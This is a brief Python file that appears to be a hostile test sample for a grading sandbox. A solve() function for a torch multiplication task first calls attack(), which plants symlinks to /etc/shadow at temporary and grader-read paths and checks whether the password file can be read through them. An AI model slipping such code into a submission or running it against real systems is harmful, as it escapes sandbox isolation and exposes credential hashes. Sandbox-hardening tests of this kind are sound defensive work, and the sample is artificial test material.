# hostile: family=disk verdict=accepted build=build_error lift=sandbox shows=harm
"""Plants links to what it may not read, where somebody else reads."""


def attack():
    import os
    import tempfile

    folder = tempfile.mkdtemp()
    for name in (f"{folder}/link", "/tmp/submission.so", "/tmp/submission/solution.h"):
        try:
            os.symlink("/etc/shadow", name)
        except OSError:
            continue
        try:
            if b"root:" in open(name, "rb").read():
                print("harm: read through a link", flush=True)
                os.unlink(name)
        except OSError:
            pass


def solve(x, y):
    import torch

    attack()
    torch.mul(x, 2, out=y)
